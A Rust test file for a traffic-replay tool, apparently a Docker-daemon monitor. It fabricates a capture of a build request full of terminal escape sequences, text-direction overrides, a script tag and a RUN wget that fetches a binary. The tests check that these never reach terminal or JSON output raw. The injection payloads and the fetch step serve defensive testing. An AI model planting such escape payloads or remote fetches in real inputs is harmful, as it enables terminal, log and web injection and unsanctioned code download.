//! Text from the wire reaches a terminal, a log or a line of JSON only as text.

use std::net::SocketAddrV4;
use std::time::Duration;

use tw_model::Timestamp;
use tw_testkit::{BuildRequest, Conversation, conversation, daemon_answer, http_request, to_pcap};

use crate::support::{Lab, Run};

const CLEAR_SCREEN: &str = "\u{1b}[2J\u{1b}[1;31m";
const SET_TITLE: &str = "\u{1b}]0;owned\u{7}";
const C1_CSI: &str = "\u{9b}31m";
const TURNED_ROUND: &str = "\u{202e}";
const HTML: &str = "<script>alert(1)</script>";

/// A build, from a caller nobody knows, whose every text tries to be more than text.
fn capture() -> Vec<u8> {
    let daemon: SocketAddrV4 = "10.10.1.5:2375".parse().expect("an address");
    let caller = "198.51.100.23:40000".parse().expect("an address");
    let host = "10.10.1.5:41000".parse().expect("an address");
    let server = "203.0.113.9:80".parse().expect("an address");
    let at = Timestamp::from_secs_nanos(1_795_560_000, 0);

    let dockerfile = format!(
        "FROM alpine:3.18\nLABEL note=\"{CLEAR_SCREEN}{TURNED_ROUND}{HTML}\"\n\
         RUN wget http://203.0.113.9/{SET_TITLE}x # {C1_CSI}\r\nbogus\n"
    );
    // A daemon refuses C0 control characters in a header, so there it is C1 ones.
    let agent = format!("Docker-Client{C1_CSI}{TURNED_ROUND}{HTML}");
    let build = BuildRequest {
        query: "t=evil%1b%5b2J%07%c2%9b31m%e2%80%ae%3Cscript%3E%0d%0atag:1",
        headers: &[("User-Agent", &agent)],
        dockerfile: dockerfile.as_bytes(),
    };
    let step = format!("{{\"stream\":\"Step 1/2 : FROM alpine:3.18 \\u001b[2J{HTML}\\n\"}}");
    let answer = daemon_answer(&[
        &step,
        "{\"stream\":\"Successfully built 0123456789ab\\n\"}",
        "{\"stream\":\"Successfully tagged evil\\u001b[31m:1\\n\"}",
    ]);
    let mut packets = Conversation::open(caller, daemon, at)
        .client_sends(&build.to_bytes())
        .wait(Duration::from_secs(2))
        .server_sends(&answer)
        .close();
    let download = http_request("GET", &format!("/{SET_TITLE}x"), &[("Host", HTML)], b"");
    packets.extend(conversation(
        host,
        server,
        at.plus(Duration::from_secs(1)),
        &download,
        b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\n\x7fELF",
    ));
    to_pcap(&packets)
}

/// Control characters, but for line ends and tabs, and what reverses the direction of writing.
fn unsafe_characters(text: &str) -> Vec<char> {
    let is_unsafe = |c: &char| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars().filter(is_unsafe).collect()
}

fn replayed(format: &str) -> Run {
    let lab = Lab::learned();
    let file = lab.file("hostile.pcap", &capture());
    lab.run("replay", ["--format".as_ref(), format.as_ref(), file.as_os_str()]).succeeded()
}

#[test]
fn escapes_from_the_wire_do_not_reach_a_terminal() {
    let run = replayed("text");
    assert!(run.text().contains("203.0.113.9"), "the build is told: {}", run.text());
    assert_eq!(unsafe_characters(&run.text()), [], "{:?}", run.text());
    assert_eq!(unsafe_characters(&run.stderr), [], "{:?}", run.stderr);
}

#[test]
fn json_lines_stay_one_a_line_and_carry_no_raw_control_characters() {
    let run = replayed("json");
    assert!(run.lines().len() > 1);
    let raw: Vec<char> = run.text().chars().filter(|c| c.is_control() && *c != '\n').collect();
    assert!(raw.iter().all(|c| !c.is_ascii_control()), "{raw:?}");
    let findings = run.events("finding");
    let is_build = |f: &&serde_json::Value| f["rule"] == "build-new-destination";
    assert!(findings.iter().any(|f| is_build(&f)), "{findings:?}");
}
